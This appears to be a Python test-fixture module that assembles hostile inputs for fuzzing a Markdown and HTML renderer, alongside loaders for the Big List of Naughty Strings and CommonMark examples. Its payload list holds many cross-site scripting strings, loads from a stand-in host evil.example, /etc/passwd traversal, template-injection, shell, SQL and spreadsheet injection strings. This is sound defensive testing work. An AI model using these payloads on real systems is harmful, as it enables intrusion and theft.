"""Hostile and awkward texts: our own list, the Big List of Naughty Strings, and CommonMark's examples."""

from __future__ import annotations

import json
import re
from functools import cache
from pathlib import Path

_PACKAGES = Path(__file__).parents[1] / "node_modules"

# What each does in a page that does not escape it is said by the group.
PAYLOADS = [
    # scripts that run when the page loads
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!-- --><script>alert(1)</script><!-- -->",
    # scripts that run on a click
    "[press](javascript:alert(1))",
    "[press](&#106;avascript:alert(1))",
    "[press](java&#9;script:alert(1))",
    "<javascript:alert(1)>",
    "[press][ref]\n\n[ref]: javascript:alert(1)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    # attribute lists
    "text {: onfocus=alert(1) tabindex=0 autofocus=1 }",
    "# heading {#main onclick=alert(1)}",
    "{: .admonition .danger }",
    # HTML in places with a parser of their own
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    '!!! note "<img src=x onerror=alert(1)>"\n    text',
    "term\n:   definition <b>bold</b>",
    # files, commands and templates
    '--8<-- "/etc/passwd"',
    '```\n--8<-- "/etc/passwd"\n```',
    "{{ 7 * 7 }} {% raw %}x{% endraw %} {# note #}",
    "${7*7} <%= 7*7 %> #{7*7}",
    # words that change other words
    "*[minister]: criminal",
    "{++added++} {--removed--} {~~old~>new~~} {==marked==}{>>comment<<}",
    # false editorial furniture
    "!!! danger\n    Retracted",
    "??? note\n    hidden",
    "- [x] verified\n- [ ] open",
    "Heading\n=======\n\nAnother\n-------",
    "> quoted\n> by whom",
    "1. first\n2. second",
    "١. أولا\n٢. ثانيا",
    "[TOC]",
    '=== "Tab"\n\n    text',
    "/// admonition | Title\ntext\n///",
    # breaking out of the layout
    "</div></article></main>",
    "<textarea><title><plaintext>",
    "\x02klzzwxh:0000\x03 \x02amp\x03",
    # loading from other hosts
    "![pixel](https://evil.example/pixel.png)",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "```mermaid\ngraph TD; A-->B\n```",
    ":smile: :material-alert: :100:",
    # more scripts that run when the page loads, by way of each parser
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><set onbegin=alert(1) attributeName=x to=y />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><noembed></select><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<p style='animation: x' onanimationstart=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>",
    "<img/src=x/onerror=alert`1`>",
    "<a href='&#1;javascript:alert(1)'>press</a>",
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<button formaction=javascript:alert(1) form=x>press</button>",
    "<a href=https://evil.example ping=https://evil.example/p>press</a>",
    # out of an attribute, a comment, a script, a style, a title
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onmouseover=alert(1) `",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</article><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "';alert(1)//",
    "\\';alert(1);//",
    "</script/x><svg/onload=alert(1)>",
    "<?php echo 1 ?><!DOCTYPE x><![CDATA[x]]>",
    # references, once and twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&nbsp;&copy;&notit;&amp &lt",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # links in each syntax
    "[press](vbscript:msgbox(1))",
    "[press](javascript&colon;alert(1))",
    "[press](<javascript:alert(1)>)",
    "[press](https://evil.example 'title')",
    "![x](javascript:alert(1))",
    "![x][ref]\n\n[ref]: https://evil.example/x.png",
    "<https://evil.example/>",
    "[^x]: text\n[x]: https://evil.example",
    "[[wiki]] [x](y){target=_blank onclick=alert(1)}",
    # commands of terminals, runners, spreadsheets and shells
    "::set-output name=x::y",
    "::error file=a,line=1::words",
    "##[error]words ##vso[task.setvariable variable=x]y",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example";"x")',
    "$(touch /tmp/x) `touch /tmp/x` ; touch x && y | z",
    "%s %d %n {0} {x} %(x)s ${x} $x",
    # queries and files
    "'; DROP TABLE seeds; --",
    "../../etc/passwd",
    '<!--#include file="/etc/passwd" -->',
    "mjhole0z mjhole1z",
    # templates
    "{% include 'x' %} {{ config }} {{ self.__init__.__globals__ }}",
    "<%= system('id') %> #{`id`} @{x}",
    "[% x %] [[${x}]] {{constructor.constructor('alert(1)')()}}",
    # furniture again
    "<details><summary>press</summary>x</details>",
    "<div class='mj-review' data-state='approved'>approved</div>",
    "\\newpage \\input{/etc/passwd} $\\href{javascript:alert(1)}{x}$",
    "/// details | x\n    open: true\n///",
    "[](){#id} [x]{.mark} :::note\nx\n:::",
    "| a |\n|:-:|\n| b |",
    "***\n___\n---",
    "~~~ html\n<script>alert(1)</script>\n~~~",
    # typography, links and mathematics made of plain text
    "https://evil.example/ www.evil.example mail@evil.example example/repo#1 @example !1 ?2",
    "\"quotes\" 'single' -- --- ... (c) (tm) 1/2 1st c/o +/- --> =/=",
    "$x^2$ \\(y\\) $$z$$ H~2~O a^2^ ==m== ++ctrl+alt++ ~~s~~ `#!python print(1)`",
    # white space
    "    indented code",
    "\ttab\tinside\t",
    "two spaces  \nand a line",
    "\u00a0\u2003edges\u3000",
    "a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h",
    # bidi controls and what encodings make of text
    "\u202eevil\u202c \u2067isolate",
    "lone \ud800 surrogate, \ufeff mark, \ufffe",
    # front matter
    "---\ntitle: stolen\n---",
    "title: stolen\nauthor: nobody",
    # slow to parse
    "[" * 2000,
    "*a **b " * 300,
]


@cache
def naughty_strings() -> list[str]:
    """The Big List of Naughty Strings."""
    strings = json.loads((_PACKAGES / "blns/resources/blns.json").read_text("utf-8"))
    assert len(strings) > 450
    return strings


@cache
def commonmark_examples() -> list[str]:
    """The Markdown of the examples of the CommonMark specification."""
    specification = (_PACKAGES / "commonmark-spec/spec.txt").read_text("utf-8")
    fence = "`" * 32
    examples = re.findall(rf"^{fence} example\n(.*?)^\.\n.*?^{fence}$", specification, re.DOTALL | re.MULTILINE)
    assert len(examples) > 640
    return [example.replace("→", "\t") for example in examples]


def all_texts() -> list[str]:
    """All of them."""
    return [*PAYLOADS, *naughty_strings(), *commonmark_examples()]
